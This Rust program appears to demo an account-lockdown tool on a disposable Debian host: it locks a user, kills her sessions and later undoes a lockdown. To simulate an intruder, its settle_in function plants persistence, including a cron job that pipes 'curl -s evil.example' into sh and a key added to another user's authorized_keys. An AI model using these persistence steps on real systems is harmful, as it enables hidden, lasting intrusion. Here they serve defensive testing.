//! What `./try` shows: a lock and a lockdown on a throw-away host, with the real output of every command.
//!
//! `lockdown-try [--shell]`; with `--shell` the user is left inside the host.
#![allow(clippy::panic, reason = "there is nobody to hand an error to: what is wrong is said and it ends")]

use std::{process::ExitCode, time::Duration};

use lockdown_tests::{Host, Output, Release, Session, eventually};

const SOON: Duration = Duration::from_secs(10);
/// By which alice's laptop signs in.
const KEY: &str = "/home/alice/.ssh/id_ed25519";
/// Prints by what alice signs in, and what runs without it: what an undo has to give back.
const STATE: &str = "\
getent shadow alice
cat ~alice/.ssh/authorized_keys
crontab -u alice -l
ls /var/lib/systemd/linger
stat -c '%A %U:%G %y %n' ~alice/.ssh/* /var/spool/cron/crontabs/alice
";

fn main() -> ExitCode {
    let shell = match std::env::args().nth(1).as_deref() {
        None => false,
        Some("--shell") => true,
        Some(other) => {
            eprintln!("try: `{other}` is not known; there is --shell");
            return ExitCode::from(2);
        }
    };
    chapter("Booting Debian 12 and installing the package");
    let host = Host::with_lockdown(Release::Bookworm);
    prepare(&host);
    show(&host, "systemctl is-active lockdownd.service lockdownd.socket").ok();

    lock(&host);
    lockdown(&host);

    if shell {
        chapter("A shell on the host: alice, bob and carol have accounts, `exit` ends the host");
        println!(
            "Try: ssh bob@localhost · lockdownctl lock bob · lockdownctl lockdown bob · lockdownctl restore bob\n     \
             lockdownctl status · lockdownctl events · lockdownctl doctor\n"
        );
        // A person can answer what ssh asks.
        host.run(&["sed", "-i", "/BatchMode/d", "/root/.ssh/config"]).ok();
        host.interact(&["bash", "--login"]);
    }
    ExitCode::SUCCESS
}

/// On the tests' hosts root's key opens every account; here only her own opens alice's, and root uses it for her.
fn prepare(host: &Host) {
    host.sh(&format!("cat {KEY}.pub > ~alice/.ssh/authorized_keys")).ok();
    host.write("/root/.ssh/config", format!("BatchMode yes\nMatch user alice\n    IdentityFile {KEY}\n"));
    host.write("/root/state", STATE);
}

fn lock(host: &Host) {
    chapter("alice is logged in by ssh, and is root in one shell");
    let alice = host.ssh("alice").key(KEY).open();
    let root = host.ssh("alice").key(KEY).open();
    root.send("sudo -i");
    root.wait_for("# ");
    show(host, "lockdownctl sessions").ok();

    chapter("Her laptop is stolen: lock her account");
    show(
        host,
        "lockdownctl lock alice --for 1h --reason 'laptop stolen' --message 'Call the help desk: 555-0100.'",
    )
    .ok();
    for (name, session) in [("Her session", &alice), ("Her root shell", &root)] {
        session.wait_ended(SOON);
        println!("→ {name} has ended.");
    }

    chapter("She cannot come back, not even while the daemon is dead");
    show(host, "ssh alice@localhost whoami").fails();
    show(host, "systemctl kill --signal KILL lockdownd; systemctl mask --now --runtime lockdownd").ok();
    show(host, "ssh alice@localhost whoami").fails();
    show(host, "ssh bob@localhost whoami").ok();
    show(host, "systemctl unmask --runtime lockdownd; systemctl start lockdownd").ok();

    chapter("Found in the cloakroom: unlock");
    show(host, "lockdownctl unlock alice").ok();
    show(host, "ssh alice@localhost whoami").ok();
}

fn lockdown(host: &Host) {
    chapter("Somebody else has alice's key, and makes sure to stay");
    let intruder = host.ssh("alice").key(KEY).open();
    settle_in(&intruder);
    show(host, "ps -C sleep -o user,pid,args").ok();
    show(host, "cat state").ok();
    show(host, "sh state > before").ok();

    chapter("Lock alice down");
    show(host, "lockdownctl lockdown alice --reason 'her key was copied' --yes").ok();
    intruder.wait_ended(SOON);
    println!("→ The intruder's session has ended.");
    show(host, "pgrep --uid alice --list-full || echo 'nothing of hers runs'").ok();
    show(host, "ls -A ~alice/.ssh; crontab -u alice -l").fails();
    show(host, "ssh alice@localhost whoami").fails();
    show(host, "su bob -c 'sudo -u alice whoami'").fails();
    show(host, "systemctl stop cache-sync").ok();

    chapter("What is known about it");
    show(host, "lockdownctl status alice").ok();
    show(host, "lockdownctl events --user alice --limit 4").ok();

    chapter("It was the backup server, after all: undo");
    show(host, "lockdownctl restore alice --undo --reason 'false alarm'").ok();
    show(host, "sh state > after; diff before after && echo 'not a byte differs'").ok();
    show(host, "ssh alice@localhost whoami").ok();
    eventually(SOON, || host.run(&["pgrep", "--uid", "alice", "--full", "sleep 1h"]).succeeded());
    show(host, "systemctl --user --machine alice@ is-active sync").ok();
}

/// What is left behind to come back by: a job of cron, a service that lingers, one of root's, a key in bob's account.
fn settle_in(alice: &Session) {
    alice.ask("mkdir -p .config/systemd/user").ok();
    alice.ask("printf '[Service]\\nExecStart=sleep 1h\\nRestart=always\\n[Install]\\nWantedBy=default.target\\n' > .config/systemd/user/sync.service").ok();
    for command in [
        "echo '* * * * * curl -s evil.example | sh' | crontab -",
        "loginctl enable-linger",
        "systemctl --user --quiet enable --now sync",
        "sudo systemd-run --quiet --unit cache-sync sleep 1h",
        "sudo tee -a ~bob/.ssh/authorized_keys < .ssh/id_ed25519.pub >/dev/null",
    ] {
        println!("alice$ {command}");
        alice.ask(command).ok();
    }
    println!();
}

fn chapter(title: &str) {
    println!("\n\x1b[1m── {title}\x1b[0m\n");
}

/// Runs a command on the host as root and shows it as a terminal would.
fn show(host: &Host, command: &str) -> Output {
    println!("# {command}");
    // Wide enough for the tables; standard error belongs to what a terminal shows.
    let script = format!("cd\n{command} 2>&1");
    let output = host.command(&["bash", "-c", &script]).env("COLUMNS", "110").run();
    println!("{}", output.stdout);
    output
}
